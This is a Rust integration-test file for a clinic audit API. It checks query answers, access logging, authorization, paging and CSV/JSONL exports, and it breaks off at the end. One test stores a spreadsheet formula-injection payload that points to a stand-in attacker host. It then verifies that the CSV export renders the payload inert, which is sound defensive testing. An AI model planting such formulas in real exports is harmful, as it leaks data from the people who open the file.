//! The query API over the real stack: nats-server, recording services, the
//! fold and HTTP. Answers are exactly what the recorded scenario implies;
//! `as_of` hides what was recorded later; 401 and 403; one access event per
//! read; paging returns every item once; exports stream the whole answer.
#![allow(clippy::unwrap_used, clippy::expect_used)] // tests fail loudly by design

use std::time::Duration;

use async_nats::jetstream::{self, consumer::pull};
use prolo_audit_api::{ApiSettings, Principals};
use prolo_bus::{STREAM_NAME, Trigger};
use prolo_projector::ProjectorSettings;
use prolo_schemas::EventType::*;
use prolo_tests::{NatsServer, Stack, example_request, record_example, record_ok};
use serde_json::{Value, json};

use crate::common::{ApiOptions, StartedApi, get_json, start_api};

const COMPLIANCE: &str = "compliance-token-0123456789";
const SAFETY: &str = "safety-token-0123456789abc";
const SERVICE: &str = "service-token-0123456789abc";

struct Api {
    base: String,
    http: reqwest::Client,
    /// The API's own OpenAPI document: every answer is checked against it.
    openapi: Value,
    validators:
        std::sync::Mutex<std::collections::HashMap<String, std::sync::Arc<jsonschema::Validator>>>,
    trigger: Trigger,
    task: tokio::task::JoinHandle<()>,
    _db: tempfile::TempDir,
}

impl Api {
    async fn start(nats: &NatsServer) -> Api {
        Api::start_limited(nats, prolo_audit_api::DEFAULT_MAX_IN_FLIGHT).await
    }

    /// An API answering at most `max_in_flight` requests at once.
    async fn start_limited(nats: &NatsServer, max_in_flight: usize) -> Api {
        let options = ApiOptions {
            tokens: format!(
                r#"{{"tokens":[
                {{"token":"{COMPLIANCE}","principal":"officer-lee","role":"compliance","clinics":["*"]}},
                {{"token":"{SAFETY}","principal":"reviewer-ng","role":"safety","clinics":["riverside"]}},
                {{"token":"{SERVICE}","principal":"ehr","role":"service","clinics":["riverside"]}}]}}"#
            ),
            max_in_flight,
            probe_broker: true,
            ..ApiOptions::default()
        };
        let StartedApi {
            base,
            db,
            trigger,
            task,
            ..
        } = start_api(nats, options).await;
        let openapi = get_json(&base, COMPLIANCE, "/openapi.json").await;
        Api {
            base,
            http: reqwest::Client::new(),
            openapi,
            validators: Default::default(),
            trigger,
            task,
            _db: db,
        }
    }

    async fn get(&self, token: Option<&str>, path: &str) -> (u16, String) {
        let mut request = self.http.get(format!("{}{path}", self.base));
        if let Some(token) = token {
            request = request.bearer_auth(token);
        }
        let response = request.send().await.unwrap();
        let status = response.status().as_u16();
        let content_type = response
            .headers()
            .get("content-type")
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .to_owned();
        let body = response.text().await.unwrap();
        self.conforms(path, status, &content_type, &body);
        (status, body)
    }

    /// Checks an answer against the OpenAPI document: its status and media
    /// type are documented for the path, and a JSON body matches the schema.
    fn conforms(&self, path: &str, status: u16, content_type: &str, body: &str) {
        let path_only = path.split('?').next().unwrap();
        let Some((template, operation)) = self.openapi["paths"]
            .as_object()
            .unwrap()
            .iter()
            .find(|(template, _)| matches_template(template, path_only))
        else {
            return;
        };
        let mut response = &operation["get"]["responses"][status.to_string()];
        assert!(
            !response.is_null(),
            "{path}: status {status} is not in the OpenAPI document ({body})"
        );
        if let Some(reference) = response["$ref"].as_str() {
            response = self.openapi.pointer(&reference[1..]).unwrap();
        }
        let media = content_type.split(';').next().unwrap_or_default().trim();
        if body.is_empty() && status != 200 {
            return; // e.g. the timeout's 503
        }
        let content = &response["content"][media];
        assert!(
            !content.is_null(),
            "{path}: {status} {media} is not in the OpenAPI document"
        );
        if media != "application/json" {
            return;
        }
        let key = format!("{template} {status}");
        let validator = self
            .validators
            .lock()
            .unwrap()
            .entry(key)
            .or_insert_with(|| {
                let root = json!({
                    "$schema": "https://json-schema.org/draft/2020-12/schema",
                    "components": self.openapi["components"],
                    "allOf": [content["schema"]],
                });
                std::sync::Arc::new(
                    jsonschema::options()
                        .should_validate_formats(true)
                        .build(&root)
                        .unwrap(),
                )
            })
            .clone();
        let instance: Value = serde_json::from_str(body).unwrap();
        let errors: Vec<String> = validator
            .iter_errors(&instance)
            .map(|e| format!("{} at {}", e, e.instance_path()))
            .take(5)
            .collect();
        assert!(
            errors.is_empty(),
            "{path}: {status} answer does not match the OpenAPI document: {errors:?}"
        );
    }

    async fn json(&self, token: &str, path: &str) -> Value {
        let (status, body) = self.get(Some(token), path).await;
        assert_eq!(status, 200, "{path}: {body}");
        serde_json::from_str(&body).unwrap()
    }

    /// Waits until the fold has applied everything in the stream.
    async fn caught_up(&self) {
        let give_up = tokio::time::Instant::now() + Duration::from_secs(30);
        loop {
            let status = self.json(SERVICE, "/v1/status").await;
            if status["lag"] == 0 {
                return;
            }
            assert!(
                tokio::time::Instant::now() < give_up,
                "API did not catch up: {status}"
            );
            tokio::time::sleep(Duration::from_millis(30)).await;
        }
    }

    async fn stop(self) {
        self.trigger.fire();
        self.task.await.unwrap();
    }
}

/// Whether `path` is an instance of the OpenAPI path `template`.
fn matches_template(template: &str, path: &str) -> bool {
    let (t, p): (Vec<&str>, Vec<&str>) = (template.split('/').collect(), path.split('/').collect());
    t.len() == p.len()
        && t.iter()
            .zip(&p)
            .all(|(t, p)| t == p || (t.starts_with('{') && !p.is_empty()))
}

/// How many access.recorded events the stream holds.
async fn access_events(js: &jetstream::Context) -> u64 {
    let stream = js.get_stream(STREAM_NAME).await.unwrap();
    let mut consumer = stream
        .create_consumer(pull::OrderedConfig {
            filter_subject: "clinic.*.principal.*.access.recorded".into(),
            ..Default::default()
        })
        .await
        .unwrap();
    consumer.info().await.unwrap().num_pending
}

#[tokio::test]
async fn the_api_answers_exactly_what_was_recorded_and_audits_every_read() {
    let (nats, recorders, client) = Stack::start().await.parts();
    let js = jetstream::new(client.clone());

    record_example(&client, PractitionerCredentialed).await;
    let consent = record_example(&client, ConsentGiven).await;
    let exam = record_example(&client, ExaminationDone).await;
    let injection = record_example(&client, InjectionGiven).await;
    let mut other = example_request("injection.given");
    other["patient_id"] = "P-2000".into();
    let other_injection = record_ok(&client, InjectionGiven, &other).await;
    let mut ae = example_request("adverse_event.reported");
    ae["payload"]["linked_injection"]["event_id"] = injection.event_id.to_string().into();
    let ae = record_ok(&client, AdverseEventReported, &ae).await;
    let mut update = example_request("adverse_event.updated");
    update["payload"]["adverse_event_id"] = ae.event_id.to_string().into();
    let update = record_ok(&client, AdverseEventUpdated, &update).await;
    let recall = record_example(&client, LotRecalled).await;

    let api = Api::start(&nats).await;
    api.caught_up().await;
    let before = access_events(&js).await;
    assert_eq!(before, 0);

    // Patient history: P-1042's five events, in stream order, with both times.
    let history = api
        .json(COMPLIANCE, "/v1/clinics/riverside/patients/P-1042/history")
        .await;
    let seqs: Vec<u64> = history["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["seq"].as_u64().unwrap())
        .collect();
    assert_eq!(
        seqs,
        vec![
            consent.stream_seq,
            exam.stream_seq,
            injection.stream_seq,
            ae.stream_seq,
            update.stream_seq
        ]
    );
    assert_eq!(history["total"], 5);
    assert_eq!(history["next_cursor"], Value::Null);
    let first = &history["items"][0];
    assert_eq!(first["event_type"], "consent.given");
    assert_eq!(first["occurred_at"], "2026-10-01T09:30:00Z");
    assert!(first["recorded_at"].as_str().unwrap().starts_with("20"));
    assert_eq!(
        first["actor"],
        json!({"id": "dr-hale", "role": "practitioner"})
    );
    assert_eq!(first["source"], "consent");
    assert_eq!(first["standing"], "as_recorded");
    assert_eq!(access_events(&js).await, 1, "one read, one access event");

    // Filter by type.
    let injections = api
        .json(
            SAFETY,
            "/v1/clinics/riverside/patients/P-1042/history?type=injection.given",
        )
        .await;
    assert_eq!(injections["total"], 1);
    assert_eq!(
        injections["items"][0]["event_id"],
        injection.event_id.to_string()
    );

    // as_of: only what had been stored by the time the injection was stored
    // (the stream's clock, not a publisher's recorded_at).
    let at = history["items"][2]["stored_at"]
        .as_str()
        .unwrap()
        .to_owned();
    let then = api
        .json(
            COMPLIANCE,
            &format!(
                "/v1/clinics/riverside/patients/P-1042/history?as_of={}",
                at.replace('+', "%2B")
            ),
        )
        .await;
    let then_seqs: Vec<u64> = then["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["seq"].as_u64().unwrap())
        .collect();
    assert_eq!(
        then_seqs,
        vec![consent.stream_seq, exam.stream_seq, injection.stream_seq]
    );

    // The adverse-event investigation.
    let inv = api
        .json(
            SAFETY,
            &format!(
                "/v1/clinics/riverside/adverse-events/{}/investigation",
                ae.event_id
            ),
        )
        .await;
    assert_eq!(inv["report"]["event_id"], ae.event_id.to_string());
    assert_eq!(inv["updates"][0]["event_id"], update.event_id.to_string());
    assert_eq!(inv["injection"]["event_id"], injection.event_id.to_string());
    assert_eq!(
        inv["consents_before"][0]["event_id"],
        consent.event_id.to_string()
    );
    assert_eq!(
        inv["examinations_before"][0]["event_id"],
        exam.event_id.to_string()
    );
    let same_lot: Vec<&str> = inv["same_lot_injections"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["patient_id"].as_str().unwrap())
        .collect();
    assert_eq!(same_lot, vec!["P-2000"]);
    assert_eq!(
        inv["same_practitioner_injections"][0]["event_id"],
        other_injection.event_id.to_string()
    );
    // The practitioner's injections come from rows the fold keeps, the
    // lot's from the records: the same injection reads the same.
    assert_eq!(
        inv["same_practitioner_injections"][0],
        inv["same_lot_injections"][0]
    );
    assert_eq!(inv["state"]["status"], "closed");
    // Typed in the read models, the same JSON as recorded.
    assert_eq!(inv["state"]["kind"], "infection");
    assert_eq!(inv["state"]["outcome"], "resolved");
    assert_eq!(inv["state"]["injection_guidance"], "palpation");
    assert_eq!(inv["state"]["updates"][0]["causality"], "probable");
    assert_eq!(inv["state"]["updates"][0]["status"], "closed");
    let window: Vec<&str> = inv["window"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v["event_id"].as_str().unwrap())
        .collect();
    for near in [&injection.event_id, &ae.event_id] {
        assert!(
            window.contains(&near.to_string().as_str()),
            "{near} is within 14 days of the onset: {window:?}"
        );
    }

    // Lot trace: both injections, the adverse event, the recall.
    let trace = api
        .json(SAFETY, "/v1/clinics/riverside/lots/DX50-2026-114/trace")
        .await;
    let patients: Vec<&str> = trace["injections"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["patient_id"].as_str().unwrap())
        .collect();
    assert_eq!(patients, vec!["P-1042", "P-2000"]);
    assert_eq!(trace["injections"][0]["site_key"], "KNEE_MCL");
    assert_eq!(trace["injections"][0]["practitioner_id"], "dr-hale");
    assert_eq!(trace["adverse_events"][0]["seq"], ae.stream_seq);
    assert_eq!(trace["recalls"], json!([recall.stream_seq]));

    // Practitioner history and one event by id.
    let dr = api
        .json(
            COMPLIANCE,
            "/v1/clinics/riverside/practitioners/dr-hale/history",
        )
        .await;
    assert_eq!(
        dr["total"], 4,
        "credential, two injections, the adverse event after one"
    );
    assert_eq!(dr["summary"]["injection_count"], 2);
    // Typed in the read models, the same JSON as recorded.
    let credential = &dr["summary"]["credentials"][0];
    assert_eq!(credential["credential"], "reconstructive_therapy");
    assert_eq!(credential["valid_from"], "2024-03-01");
    assert_eq!(credential["valid_until"], "2027-02-28");
    let one = api
        .json(COMPLIANCE, &format!("/v1/events/{}", injection.event_id))
        .await;
    assert_eq!(one["seq"], injection.stream_seq);
    assert_eq!(access_events(&js).await, 7, "seven successful reads so far");

    // Exports stream the whole answer.
    let (status, jsonl) = api
        .get(
            Some(COMPLIANCE),
            "/v1/clinics/riverside/patients/P-1042/history?format=jsonl",
        )
        .await;
    assert_eq!(status, 200);
    assert_eq!(jsonl.lines().count(), 5);
    assert!(
        jsonl
            .lines()
            .all(|l| serde_json::from_str::<Value>(l).is_ok())
    );
    let (_, csv) = api
        .get(
            Some(COMPLIANCE),
            "/v1/clinics/riverside/patients/P-1042/history?format=csv",
        )
        .await;
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(lines.len(), 6);
    assert!(lines[0].starts_with("seq,event_id,event_type"));
    // The export's read names the patient as the one it exposes (a
    // patient's history holds only that patient's events).
    let exported = access_recorded(&js).await;
    let exported = &exported.last().unwrap().payload;
    assert_eq!(exported["patient_id"], "P-1042");
    assert_eq!(exported["exposed_patients"], serde_json::json!(["P-1042"]));
    assert!(lines[1].starts_with(&format!(
        "{},{},consent.given",
        consent.stream_seq, consent.event_id
    )));
    let (_, trace_csv) = api
        .get(
            Some(SAFETY),
            "/v1/clinics/riverside/lots/DX50-2026-114/trace?format=csv",
        )
        .await;
    assert_eq!(trace_csv.lines().count(), 3);
    assert_eq!(access_events(&js).await, 10);

    // 401 and 403, none of which is recorded as a read.
    let (status, body) = api
        .get(None, "/v1/clinics/riverside/patients/P-1042/history")
        .await;
    assert_eq!(status, 401, "{body}");
    assert!(body.contains("\"unauthorized\""));
    assert_eq!(
        api.get(Some("not-a-token-at-all-x"), "/v1/status").await.0,
        401
    );
    let (status, body) = api
        .get(
            Some(SERVICE),
            "/v1/clinics/riverside/patients/P-1042/history",
        )
        .await;
    assert_eq!(status, 403, "{body}");
    assert!(body.contains("\"forbidden\""));
    assert_eq!(
        api.get(
            Some(SAFETY),
            "/v1/clinics/riverside/patients/P-1042/access-log"
        )
        .await
        .0,
        403
    );
    assert_eq!(
        api.get(
            Some(COMPLIANCE),
            "/v1/clinics/riverside/patients/P.1/history"
        )
        .await
        .0,
        400
    );
    assert_eq!(
        api.get(
            Some(COMPLIANCE),
            "/v1/clinics/riverside/patients/P-1042/history?format=xml"
        )
        .await
        .0,
        400
    );
    assert_eq!(
        access_events(&js).await,
        10,
        "refused requests are not reads"
    );

    // The compliance officer sees who looked at P-1042.
    api.caught_up().await;
    let log = api
        .json(
            COMPLIANCE,
            "/v1/clinics/riverside/patients/P-1042/access-log",
        )
        .await;
    let queries: Vec<&str> = log["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["payload"]["query"].as_str().unwrap())
        .collect();
    assert!(
        queries.starts_with(&[
            "patient_history",
            "patient_history",
            "patient_history",
            "adverse_event_investigation"
        ]),
        "{queries:?}"
    );
    assert_eq!(log["items"][0]["payload"]["principal_id"], "officer-lee");
    assert_eq!(log["items"][0]["payload"]["records_returned"], 5);

    let openapi = api.get(None, "/openapi.json").await;
    assert_eq!(openapi.0, 200);
    assert!(
        openapi
            .1
            .contains("/v1/clinics/{clinic}/patients/{patient}/history")
    );
    api.stop().await;
    recorders.stop().await;
}

#[tokio::test]
async fn paging_through_a_large_history_returns_every_item_once() {
    let (nats, recorders, client) = Stack::start().await.parts();
    let mut recorded = Vec::new();
    let mut consents = Vec::new();
    for i in 0..230 {
        let mut request = example_request("examination.done");
        request["patient_id"] = "P-LONG".into();
        request["payload"]["history_summary"] = format!("visit {i}").into();
        recorded.push(
            record_ok(&client, ExaminationDone, &request)
                .await
                .stream_seq,
        );
        // Other events in between, for the filtered pages.
        if i % 10 == 0 {
            let mut consent = example_request("consent.given");
            consent["patient_id"] = "P-LONG".into();
            consents.push(record_ok(&client, ConsentGiven, &consent).await.stream_seq);
        }
    }
    let api = Api::start(&nats).await;
    api.caught_up().await;
    // Every page of `query`, `limit` at a time: the sequences and the pages.
    let pages = async |query: &str, limit: usize, total: usize| {
        let mut seen = Vec::new();
        let mut cursor: Option<String> = None;
        let mut pages = 0;
        loop {
            let mut path =
                format!("/v1/clinics/riverside/patients/P-LONG/history?limit={limit}{query}");
            if let Some(c) = &cursor {
                path.push_str(&format!("&cursor={c}"));
            }
            let page = api.json(COMPLIANCE, &path).await;
            pages += 1;
            assert_eq!(page["total"], total, "{path}");
            let items = page["items"].as_array().unwrap();
            assert!(items.len() <= limit);
            seen.extend(items.iter().map(|i| i["seq"].as_u64().unwrap()));
            match page["next_cursor"].as_str() {
                Some(c) => cursor = Some(c.to_owned()),
                None => break,
            }
        }
        (seen, pages)
    };
    let (seen, count) = pages("", 40, 253).await;
    assert_eq!(count, 7);
    let mut everything = [recorded.clone(), consents.clone()].concat();
    everything.sort();
    assert_eq!(seen, everything, "every item once, in order");
    // Filtered: each event is read once to filter and show it; the pages
    // and cursors are the same as over the filtered list.
    let (seen, count) = pages("&type=examination.done", 40, 230).await;
    assert_eq!(count, 6);
    assert_eq!(seen, recorded, "every examination once, in order");
    let (seen, count) = pages("&type=consent.given", 5, 23).await;
    assert_eq!(count, 5);
    assert_eq!(seen, consents, "every consent once, in order");
    api.stop().await;
    recorders.stop().await;
}

#[tokio::test]
async fn findings_and_signals_are_queryable_by_rule_status_and_patient() {
    let (nats, recorders, client) = Stack::start().await.parts();
    record_example(&client, PractitionerCredentialed).await;
    let mut injection = example_request("injection.given");
    injection["patient_id"] = "P-NC".into();
    let injected = record_ok(&client, InjectionGiven, &injection).await;

    let api = Api::start(&nats).await;
    api.caught_up().await;
    let open = api
        .json(
            SAFETY,
            "/v1/clinics/riverside/findings?rule=no_active_consent&status=open",
        )
        .await;
    assert_eq!(open["total"], 1, "{open}");
    assert_eq!(
        open["items"][0]["evidence"],
        json!([injected.event_id.to_string()])
    );
    assert_eq!(open["items"][0]["patient_id"], "P-NC");
    assert_eq!(open["items"][0]["severity"], "high");
    let by_patient = api
        .json(COMPLIANCE, "/v1/clinics/riverside/findings?patient=P-NC")
        .await;
    let rules: Vec<&str> = by_patient["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    // Recorded today for a fact of October: also late documentation.
    assert_eq!(
        rules,
        vec![
            "late_documentation",
            "no_active_consent",
            "no_examination_or_candidacy"
        ]
    );

    // The consent, recorded late, resolves the finding; both stay.
    let mut consent = example_request("consent.given");
    consent["patient_id"] = "P-NC".into();
    let consent = record_ok(&client, ConsentGiven, &consent).await;
    api.caught_up().await;
    assert_eq!(
        api.json(
            SAFETY,
            "/v1/clinics/riverside/findings?rule=no_active_consent&status=open"
        )
        .await["total"],
        0
    );
    let resolved = api
        .json(
            SAFETY,
            "/v1/clinics/riverside/findings?rule=no_active_consent&status=resolved",
        )
        .await;
    assert_eq!(
        resolved["items"][0]["resolved_by"][0],
        consent.event_id.to_string()
    );
    assert_eq!(
        api.get(Some(SAFETY), "/v1/clinics/riverside/findings?rule=nonsense")
            .await
            .0,
        400
    );
    assert_eq!(
        api.get(Some(SERVICE), "/v1/clinics/riverside/findings")
            .await
            .0,
        403
    );

    let signals = api.json(SAFETY, "/v1/clinics/riverside/signals").await;
    assert_eq!(signals["baseline"]["injections"], 1);
    assert!(
        signals["groups"]
            .as_array()
            .unwrap()
            .iter()
            .any(|g| g["dimension"] == "lot" && g["group"] == "DX50-2026-114")
    );
    assert_eq!(signals["signals"], json!([]));
    api.stop().await;
    recorders.stop().await;
}

#[tokio::test]
async fn status_says_whether_the_broker_fsyncs_before_it_acknowledges() {
    let nats = NatsServer::start().await.unwrap();
    let api = Api::start(&nats).await;
    let early = api.json(SERVICE, "/v1/status").await;
    assert_eq!(
        early["stream_consistency"]["state"], "unknown",
        "no stream yet: {early}"
    );
    prolo_bus::ensure_stream(
        &jetstream::new(nats.client().await.unwrap()),
        &prolo_bus::StreamSettings::default(),
    )
    .await
    .unwrap();
    let status = api.json(SERVICE, "/v1/status").await;
    assert_eq!(status["broker"]["fsync"], "always", "{status}");
    assert_eq!(
        status["stream_consistency"]["state"], "consistent",
        "{status}"
    );
    assert_eq!(
        status["broker"]["monitor_url"],
        nats.monitor_url().unwrap().as_str(),
        "{status}"
    );
    api.stop().await;
}

/// Publishes `event` straight onto its subject, as a client with publish
/// rights on `clinic.>` (an operator's, or a compromised service's) could.
async fn publish_forged(js: &jetstream::Context, event: &prolo_schemas::Envelope) {
    js.publish(event.subject().unwrap().to_string(), event.to_json().into())
        .await
        .unwrap()
        .await
        .unwrap();
}

#[tokio::test]
async fn the_streams_clock_is_the_recorded_time_and_a_forged_recorded_at_bends_nothing() {
    let (nats, recorders, client) = Stack::start().await.parts();
    let js = jetstream::new(client.clone());
    let now = chrono::Utc::now();
    let at =
        |t: chrono::DateTime<chrono::Utc>| t.to_rfc3339_opts(chrono::SecondsFormat::Secs, true);

    // An infection an hour ago: its follow-up is due within 7 days.
    let mut report = example_request("adverse_event.reported");
    report["occurred_at"] = at(now - chrono::Duration::hours(1)).into();
    report["payload"]["onset_at"] = at(now - chrono::Duration::hours(2)).into();
    report["payload"]["aware_at"] = at(now - chrono::Duration::hours(1)).into();
    record_ok(&client, AdverseEventReported, &report).await;

    // Forged: one claims to be recorded 30 days from now (it would be the
    // projector's clock and expire the follow-up), one back-dated to 2020
    // (it would show in any earlier `as_of`).
    let example = |t: &str| {
        let mut e = prolo_tests::example_envelope(t);
        e.event_id = uuid::Uuid::now_v7();
        e
    };
    let mut future = example("examination.done");
    future.occurred_at = now;
    future.recorded_at = now + chrono::Duration::days(30);
    publish_forged(&js, &future).await;
    let mut backdated = example("imaging.recorded");
    backdated.occurred_at = "2019-12-31T10:00:00Z".parse().unwrap();
    backdated.recorded_at = "2020-01-01T10:00:00Z".parse().unwrap();
    publish_forged(&js, &backdated).await;

    let api = Api::start(&nats).await;
    api.caught_up().await;
    let mismatches = api
        .json(
            COMPLIANCE,
            "/v1/clinics/riverside/findings?rule=recorded_at_mismatch",
        )
        .await;
    assert_eq!(mismatches["total"], 2, "{mismatches}");
    let evidence: Vec<&str> = mismatches["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["evidence"][0].as_str().unwrap())
        .collect();
    assert!(evidence.contains(&future.event_id.to_string().as_str()));
    assert!(evidence.contains(&backdated.event_id.to_string().as_str()));
    // The follow-up is not overdue: the forged date did not move the clock.
    let overdue = api
        .json(
            COMPLIANCE,
            "/v1/clinics/riverside/findings?rule=no_adverse_event_update",
        )
        .await;
    assert_eq!(overdue["total"], 0, "{overdue}");

    // `as_of` goes by the stream's time: yesterday nothing was known, a
    // minute from now all three are, the "2020" one and the "future" one too.
    let history = |as_of: chrono::DateTime<chrono::Utc>| {
        format!(
            "/v1/clinics/riverside/patients/P-1042/history?as_of={}",
            at(as_of)
        )
    };
    let yesterday = api
        .json(COMPLIANCE, &history(now - chrono::Duration::days(1)))
        .await;
    assert_eq!(yesterday["items"], json!([]), "{yesterday}");
    let soon = api
        .json(COMPLIANCE, &history(now + chrono::Duration::minutes(1)))
        .await;
    let ids: Vec<&str> = soon["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["event_id"].as_str().unwrap())
        .collect();
    assert_eq!(ids.len(), 3, "{soon}");
    assert!(ids.contains(&future.event_id.to_string().as_str()));
    // The stored recorded_at is shown as stored, beside the stream's time.
    let shown = &soon["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["event_id"] == backdated.event_id.to_string())
        .unwrap()
        .clone();
    assert_eq!(shown["recorded_at"], "2020-01-01T10:00:00Z");
    let stored: chrono::DateTime<chrono::Utc> =
        shown["stored_at"].as_str().unwrap().parse().unwrap();
    assert!((stored - now).num_seconds().abs() < 60, "{shown}");
    api.stop().await;
    recorders.stop().await;
}

#[tokio::test]
async fn a_riverside_token_reads_riverside_only() {
    let (nats, recorders, client) = Stack::start().await.parts();
    let mut northside = example_request("injection.given");
    northside["clinic_id"] = "northside".into();
    let theirs = record_ok(&client, InjectionGiven, &northside).await;
    let ours = record_example(&client, InjectionGiven).await;
    let api = Api::start(&nats).await;
    api.caught_up().await;

    // SAFETY is scoped to riverside; COMPLIANCE to every clinic ("*").
    for path in [
        "/v1/clinics/northside/patients/P-1042/history".to_owned(),
        "/v1/clinics/northside/patients/P-1042/summary".to_owned(),
        "/v1/clinics/northside/lots/DX50-2026-114/trace".to_owned(),
        "/v1/clinics/northside/practitioners/dr-hale/history".to_owned(),
        "/v1/clinics/northside/findings".to_owned(),
        "/v1/clinics/northside/signals".to_owned(),
        format!(
            "/v1/clinics/northside/adverse-events/{}/investigation",
            theirs.event_id
        ),
        format!("/v1/events/{}", theirs.event_id),
    ] {
        let (status, body) = api.get(Some(SAFETY), &path).await;
        assert_eq!(status, 403, "{path}: {body}");
        assert!(body.contains("clinic_forbidden"), "{path}: {body}");
    }
    assert_eq!(
        api.get(Some(SAFETY), &format!("/v1/events/{}", ours.event_id))
            .await
            .0,
        200
    );
    assert_eq!(
        api.get(Some(COMPLIANCE), &format!("/v1/events/{}", theirs.event_id))
            .await
            .0,
        200
    );
    api.stop().await;
    recorders.stop().await;
}

#[tokio::test]
async fn csv_exports_neutralise_formulas_and_carry_the_clinical_facts() {
    let (nats, recorders, client) = Stack::start().await.parts();
    let mut injection = example_request("injection.given");
    injection["actor"]["id"] = r#"=HYPERLINK("http://evil.example/?"&B2,"open")"#.into();
    record_ok(&client, InjectionGiven, &injection).await;
    let api = Api::start(&nats).await;
    api.caught_up().await;

    let (status, csv) = api
        .get(
            Some(COMPLIANCE),
            "/v1/clinics/riverside/patients/P-1042/history?format=csv",
        )
        .await;
    assert_eq!(status, 200, "{csv}");
    let mut reader = ::csv::Reader::from_reader(csv.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    let cell = |name: &str| {
        let i = headers
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("no {name}"));
        row[i].to_owned()
    };
    assert_eq!(
        cell("actor_id"),
        r#"'=HYPERLINK("http://evil.example/?"&B2,"open")"#,
        "the formula is text, not live"
    );
    assert!(
        row.iter().all(|c| !c.starts_with(['=', '+', '-', '@'])),
        "{row:?}"
    );
    assert_eq!(cell("site"), injection["payload"]["site"]["site_key"]);
    assert!(
        cell("solution").starts_with("dextrose"),
        "{}",
        cell("solution")
    );
    assert!(cell("lots").contains("DX50-2026-114"), "{}", cell("lots"));
    assert_eq!(
        cell("volume_ml"),
        injection["payload"]["volume_ml"].to_string()
    );

    let (_, trace) = api
        .get(
            Some(SAFETY),
            "/v1/clinics/riverside/lots/DX50-2026-114/trace?format=csv",
        )
        .await;
    let mut reader = ::csv::Reader::from_reader(trace.as_bytes());
    let headers: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    for column in ["site_key", "solution", "lots", "volume_ml", "guidance"] {
        assert!(headers.iter().any(|h| h == column), "{headers:?}");
    }
    let row = reader.records().next().unwrap().unwrap();
    let at = |name: &str| row[headers.iter().position(|h| h == name).unwrap()].to_owned();
    assert!(at("solution").starts_with("dextrose"), "{row:?}");
    assert!(at("lots").contains("DX50-2026-114"), "{row:?}");
    api.stop().await;
    recorders.stop().await;
}

#[tokio::test]
async fn out_of_range_parameters_are_refused_naming_the_parameter() {
    let (nats, recorders, client) = Stack::start().await.parts();
    let injection = record_example(&client, InjectionGiven).await;
    let mut report = example_request("adverse_event.reported");
    report["payload"]["linked_injection"]["event_id"] = injection.event_id.to_string().into();
    let infection = record_ok(&client, AdverseEventReported, &report).await;
    let api = Api::start(&nats).await;
    api.caught_up().await;
    let history = "/v1/clinics/riverside/patients/P-1042/history";
    let investigation = format!(
        "/v1/clinics/riverside/adverse-events/{}/investigation",
        infection.event_id
    );
    for (path, named) in [
        (
            format!("{investigation}?window_days=1000000000000"),
            "window_days",
        ),
        (format!("{investigation}?window_days=366"), "window_days"),
        (format!("{investigation}?window_days=0"), "window_days"),
        (format!("{history}?limit=1001"), "limit"),
        (format!("{history}?limit=0"), "limit"),
        (format!("{history}?from=1800-01-01T00:00:00Z"), "from"),
        (format!("{history}?to=2999-01-01T00:00:00Z"), "to"),
        (format!("{history}?as_of=0001-01-01T00:00:00Z"), "as_of"),
        (
            "/v1/clinics/riverside/findings?from=3000-01-01T00:00:00Z".to_owned(),
            "from",
        ),
    ] {
        let (status, body) = api.get(Some(COMPLIANCE), &path).await;
        assert_eq!(status, 400, "{path}: {body}");
        assert!(body.contains(named), "{path}: {body}");
    }
    // A clinic segment that does not decode to UTF-8, or is not an id: the
    // caller's error (400), after who asks is checked.
    for path in ["/v1/clinics/%FF%FE/findings", "/v1/clinics/a.b/findings"] {
        let (status, body) = api.get(Some(COMPLIANCE), path).await;
        assert_eq!(status, 400, "{path}: {body}");
        assert_eq!(api.get(None, path).await.0, 401, "{path}");
    }
    // In range, the investigation answers.
    assert_eq!(
        api.get(
            Some(COMPLIANCE),
            &format!("{investigation}?window_days=365")
        )
        .await
        .0,
        200
    );
    api.stop().await;
    recorders.stop().await;
}

/// The queries on a patient's access log.
async fn reads_of(api: &Api, patient: &str) -> Vec<String> {
    reads_of_events(api, patient)
        .await
        .iter()
        .map(|e| e["payload"]["query"].as_str().unwrap().to_owned())
        .collect()
}

#[tokio::test]
async fn every_patient_an_answer_exposes_has_the_read_on_their_access_log() {
    let (nats, recorders, client) = Stack::start().await.parts();
    for patient in ["P-1042", "P-2000", "P-3000"] {
        let mut injection = example_request("injection.given");
        injection["patient_id"] = patient.into();
        record_ok(&client, InjectionGiven, &injection).await;
    }
    let api = Api::start(&nats).await;
    api.caught_up().await;

    // A practitioner's history, exported: three patients' injections.
    let (status, body) = api
        .get(
            Some(SAFETY),
            "/v1/clinics/riverside/practitioners/dr-hale/history?format=jsonl",
        )
        .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body.lines().count(), 3);
    // A lot trace: the same three.
    api.json(SAFETY, "/v1/clinics/riverside/lots/DX50-2026-114/trace")
        .await;
    // Findings of the clinic (no consent for any of them): the same three.
    api.json(
        SAFETY,
        "/v1/clinics/riverside/findings?rule=no_active_consent",
    )
    .await;
    api.caught_up().await;
    for patient in ["P-1042", "P-2000", "P-3000"] {
        let reads = reads_of(&api, patient).await;
        for query in ["practitioner_history", "lot_trace", "findings"] {
            assert!(
                reads.iter().any(|r| r == query),
                "{patient}'s access log lacks {query}: {reads:?}"
            );
        }
    }
    api.stop().await;
    recorders.stop().await;
}

#[tokio::test]
async fn the_public_example_tokens_are_refused_off_loopback() {
    let nats = NatsServer::start().await.unwrap();
    let example = Principals::load(
        &std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../deploy/tokens.example.json"),
    )
    .unwrap();
